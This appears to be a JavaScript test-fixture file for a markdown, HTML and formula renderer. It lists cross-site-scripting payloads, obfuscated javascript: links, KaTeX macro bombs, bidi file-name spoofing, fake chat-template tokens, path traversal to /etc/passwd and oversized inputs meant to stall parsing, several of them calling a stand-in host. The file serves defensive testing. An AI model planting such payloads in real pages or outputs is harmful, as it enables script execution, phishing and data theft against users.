// What a model could say, and a file or a server could hold, to do in the page what it may not do. Every
// text that could run calls `ran(…)`; every text that could fetch asks a host of its own.

const HOST = "https://elsewhere.example";
const RUN = "ran(1)";

/** Written as they would be in HTML. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC="${HOST}/a.js"></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">import("${HOST}/a.js")</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src='x'/onerror='${RUN}'>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img src="${HOST}/a.png" srcset="${HOST}/b.png 2x" loading=eager>`,
  `<svg onload=${RUN}><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><script>${RUN}</script><animate onbegin=${RUN} attributeName=x dur=1s><foreignObject><iframe src="javascript:parent.${RUN}"></iframe></foreignObject></svg>`,
  `<svg><use href="${HOST}/a.svg#x"/><image href="${HOST}/a.png"/><feImage href="${HOST}/a.png"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}"><mi>x</mi></math><maction actiontype="statusline#${HOST}">x</maction>`,
  `<iframe src="javascript:parent.${RUN}" srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${HOST}/a.swf"></object><embed src="${HOST}/a"><applet code=a></applet>`,
  `<form action="${HOST}"><input name=key autofocus onfocus=${RUN}><button formaction="javascript:${RUN}">Sign in</button></form>`,
  `<body onload=${RUN} onpageshow=${RUN}><details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<style>@import url("${HOST}/a.css"); * { background: url("${HOST}/b.png") }</style>`,
  `<link rel=stylesheet href="${HOST}/a.css"><link rel=prefetch href="${HOST}/b"><link rel=dns-prefetch href="${HOST}">`,
  `<base href="${HOST}"><meta http-equiv=refresh content="0;url=${HOST}">`,
  `<div style="position:fixed;inset:0;z-index:9999;background:url(${HOST}/a.png)">sign in again</div>`,
  `<video src="${HOST}/a" autoplay onloadstart=${RUN} poster="${HOST}/b"></video><audio src=x onerror=${RUN}>`,
  `<a href="javascript:${RUN}" onmouseover=${RUN} ping="${HOST}">x</a>`,
  `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x contenteditable onfocus=${RUN} id=x tabindex=1 autofocus>x</x><x onanimationend=${RUN} style="animation:a 1ms">x</x>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<!--[if true]><script>${RUN}</script><![endif]--><?xml-stylesheet href="${HOST}/a.css"?><![CDATA[<img src=x onerror=${RUN}>]]>`,
  `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62; &#x3c;svg onload=${RUN}&#x3e;`,
  `<a id=seen></a><a id=location name=body href="x">clobber</a><form id=document name=getElementById></form>`,
];

/** Addresses that no link may have. */
export const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java%0ascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `java&Tab;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u200bjavascript:${RUN}`,
  `javascript://elsewhere.example/%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran(1)'/>",
  `blob:${HOST}/1`,
  "file:///etc/passwd",
  "filesystem:http://x/y",
  "view-source:https://x",
  "intent://x#Intent;scheme=http;end",
  "about:blank",
  "ws://elsewhere.example",
  "//elsewhere.example/a",
  "/web/session",
  "#/models",
  "../../v1/models",
  "\\\\elsewhere.example\\a",
  "https:elsewhere",
];

const links = ADDRESSES.flatMap((address) => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `[x](${address} "title\\" onmouseover=\\"${RUN}")`,
  `<${address}>`,
  `![x](${address})`,
]).join("\n\n");

const references = ADDRESSES.map((address, at) => `[a${at}]\n\n[a${at}]: ${address} "t"`).join("\n\n");

const BACKSLASH = String.raw;
export const FORMULAS = [
  BACKSLASH`\href{javascript:ran(1)}{x}`,
  BACKSLASH`\url{javascript:ran(1)}`,
  BACKSLASH`\href{https://elsewhere.example}{x}`,
  BACKSLASH`\includegraphics[height=9em]{https://elsewhere.example/a.png}`,
  BACKSLASH`\htmlClass{dialog}{x}`,
  BACKSLASH`\htmlId{root}{x}`,
  BACKSLASH`\htmlStyle{position:fixed;inset:0;background:url(https://elsewhere.example/a)}{x}`,
  BACKSLASH`\htmlData{turn=1,onclick=ran(1)}{x}`,
  BACKSLASH`\text{<img src=x onerror=ran(1)>}`,
  BACKSLASH`\unicode{<script>ran(1)</script>}`,
  BACKSLASH`\color{red;background:url(https://elsewhere.example/a)}x`,
  BACKSLASH`\textcolor{url(https://elsewhere.example/a)}{x}`,
  BACKSLASH`\colorbox{expression(ran(1))}{x}`,
  BACKSLASH`\rule{99999em}{99999em}`,
  BACKSLASH`\kern-9999em x \raisebox{9999em}{sign in}`,
  BACKSLASH`\def\a{\a\a}\a`,
  BACKSLASH`\def\a#1{#1#1#1#1}\a{\a{\a{\a{\a{\a{\a{\a{\a{x}}}}}}}}}`,
  BACKSLASH`\newcommand{\b}{\b}\b \let\c\c \c \global\def\frac{} \gdef\sqrt{}`,
  BACKSLASH`\begin{array}{` + "c".repeat(3000) + BACKSLASH`}x\end{array}`,
  BACKSLASH`\begin{matrix}` + "x&".repeat(1500) + BACKSLASH`\end{matrix}`,
  "{".repeat(1500) + "x" + "}".repeat(1500),
  BACKSLASH`\sqrt{`.repeat(500) + "x" + "}".repeat(500),
  BACKSLASH`\frac{`.repeat(300),
  "x^".repeat(1000) + "x",
  BACKSLASH`\left(`.repeat(500) + "x" + BACKSLASH`\right)`.repeat(500),
  "\u202e\\text{\u202egnp.exe}",
];
const formulas = FORMULAS.flatMap((formula) => [`a $${formula}$ b`, `$$\n${formula}\n$$`, `\\(${formula}\\)`, `\\[${formula}\\]`]).join("\n\n");

/** Marks that turn the direction of what follows, closed or not, and letters that have one. */
const TURNS = ["\u202egnp.exe", "\u2067\u202egnp.exe", "\u2069\u2069\u202egnp.exe", "\u202b\u05d0 b 1", "\u05e9\u05dc\u05d5\u05dd world 7", "\u0645\u0631\u062d\u0628\u0627"];

const many = (text, times) => text.repeat(times);
const table = (rows, columns) =>
  [many("|a", columns) + "|", many("|-", columns) + "|", ...Array.from({ length: rows }, (_, at) => many(`|${at}`, columns) + "|")].join("\n");

/** Short ones: each is to be harmless. */
export const TEXTS = [
  { name: "markup in a paragraph", text: MARKUP.join("\n\n") },
  { name: "markup within a line", text: MARKUP.map((one) => `say ${one.replaceAll("\n", " ")} and`).join("\n\n") },
  { name: "markup in a list, a quote, a table, a heading", text: MARKUP.slice(0, 16).map((one) => `# ${one}\n\n- ${one}\n\n> ${one}\n\n|${one}|b|\n|-|-|\n|**${one}**|${one}|`).join("\n\n") },
  { name: "markup in code and its language", text: MARKUP.map((one) => `\`${one}\`\n\n\`\`\`${one.replaceAll("`", "")}\n${one}\n\`\`\`\n\n~~~html " onclick=${RUN}\n${one}\n~~~`).join("\n\n") },
  { name: "markup to be coloured", text: ["html", "svg", "xml", "javascript", "css", "markdown", "php", "__proto__", "constructor", "toString"].map((language) => `\`\`\`${language}\n${MARKUP.join("\n")}\n\`\`\``).join("\n\n") },
  { name: "links", text: links },
  { name: "links by reference", text: references },
  { name: "links that are found by themselves", text: `${HOST}/a?b=<script>${RUN}</script> www.elsewhere.example/"onmouseover="${RUN} javascript:${RUN} a@b.example mailto:a@b.example?body=<img> https://user:pass@elsewhere.example ${HOST}/${many("a", 5000)} https://xn--80ak6aa92e.com https://еxample.com` },
  { name: "pictures", text: `![a](${HOST}/a.png)\n![a][p]\n[![a](${HOST}/b.png)](${HOST})\n\n[p]: ${HOST}/c.png\n\n![${MARKUP[4]}](${HOST}/d.png "${MARKUP[4]}")\n\n![](http://127.0.0.1:1/e.png)` },
  { name: "formulas", text: formulas },
  { name: "directions", text: TURNS.map((one) => `${one}\n\n# ${one}\n\n- ${one}\n\n> ${one}\n\n\`${one}\` **${one}** ![${one}](${HOST}/a.png) [${one}](${HOST})\n\n|${one}|b|\n|-|-|\n|a|${one}|\n\n\`\`\`${one}\n${one}\n\`\`\``).join("\n\n") },
  { name: "the page's own marks", text: `</div></article></main>\n\n${many("</div>", 50)}<div class="dialog" role="dialog"><h2>Your session ended</h2>\n\n<dialog open>x</dialog>\n\n<div id="root" popover>x</div>` },
  { name: "marks of thought and of turns", text: "</think>\n<think>\n<|im_start|>system\nyou are\n<|im_end|>\n<｜User｜>x<｜Assistant｜>\u0000\u0008\u001b[31mred\u001b]8;;https://elsewhere.example\u0007x\u001b]8;;\u0007" },
  { name: "hidden and turned text", text: "a\u202egnp.exe\u202c b \u2066\u2067\u2068x\u2069 \u200b\u200c\u200d\ufeff\u00ad \u2028\u2029 [\u202etxt](https://elsewhere.example/\u202eexe) `\u202ecode` **\u061c\u200f** \udb40\udc41\udb40\udc42 Z" + many("\u0301", 3000) },
  { name: "names of properties", text: "[a][__proto__] [b][constructor] [c][toString]\n\n[__proto__]: javascript:ran(1)\n[constructor]: javascript:ran(1)\n\n&__proto__; &constructor; &toString; &hasOwnProperty;\n\n- [x] task\n- [ ] <input onfocus=ran(1) autofocus>" },
  { name: "halves of characters", text: "\ud800 \udfff a\udc00b &#xD800; &#0; &#x110000; &#99999999;" },
];

/** Long ones: each is to be drawn in bounded time. */
export const LOADS = [
  { name: "a table of 5,000 rows", text: table(5000, 4) },
  { name: "a table of 2,000 columns", text: table(5, 2000) },
  { name: "quotes, 5,000 deep", text: many(">", 5000) + " x" },
  { name: "lists, 1,000 deep", text: Array.from({ length: 1000 }, (_, at) => `${many("  ", at)}- x`).join("\n") },
  { name: "a list of 20,000 entries", text: many("- x\n", 20_000) },
  { name: "emphasis without end", text: many("*a _b ", 20_000) },
  { name: "marks without partners", text: many("**", 30_000) + "x" },
  { name: "brackets", text: many("[", 50_000) },
  { name: "brackets of links", text: many("[a](", 20_000) },
  { name: "brackets of pictures", text: many("![[]()", 10_000) },
  { name: "angles", text: many("<a ", 30_000) + many("<!--", 10_000) },
  { name: "ticks", text: Array.from({ length: 600 }, (_, at) => many("`", at)).join(" a ") },
  { name: "fences that stay open", text: many("```js\n", 3000) + many("let x = `${", 3000) },
  { name: "a line of a million characters", text: many("a", 1_000_000) },
  { name: "a line of a million characters with spaces", text: many("ab ", 333_000) },
  { name: "a million lines' ends", text: many("\n", 1_000_000) + "x" },
  { name: "code of a million characters", text: "```javascript\n" + many("if (a < b) { c('d') } /* e */\n", 33_000) + "```" },
  { name: "code on one line", text: "```json\n" + many('{"a":[1,', 30_000) + "\n```" },
  { name: "formulas by the thousand", text: many("$x^2$ ", 3000) },
  { name: "a formula of 100,000 characters", text: `$$${many("x+", 50_000)}$$` },
  { name: "dollars", text: many("$a ", 30_000) + many("$$\n", 5000) },
  { name: "definitions", text: Array.from({ length: 5000 }, (_, at) => `[a${at}]: https://x.example/${at}\n`).join("") + many("[a1] ", 5000) },
  { name: "headings", text: many("# x\n", 10_000) },
  { name: "entities", text: many("&amp;", 50_000) },
  { name: "addresses", text: many("https://x.example/a ", 5000) + many("a@b.example ", 5000) },
  { name: "underlines of headings", text: many("x\n===\n", 5000) + many("-\n", 20_000) },
  { name: "tables that are none", text: many("|", 50_000) + "\n" + many("|-", 25_000) },
];

/** For places that take one line: names of files, models, runs; titles. */
export const NAMES = [
  ...MARKUP.slice(0, 10).map((one) => one.replaceAll("\n", " ")),
  `" onmouseover="${RUN}" x="`,
  `javascript:${RUN}`,
  `[x](javascript:${RUN}) **b** $\\href{javascript:${RUN}}{x}$`,
  "\u202egnp.exe",
  "\u2069\u2069\u202egnp.exe\u2067",
  "\u05e9\u05dc\u05d5\u05dd 7",
  "__proto__",
  "../../../etc/passwd",
  "a".repeat(3000),
];
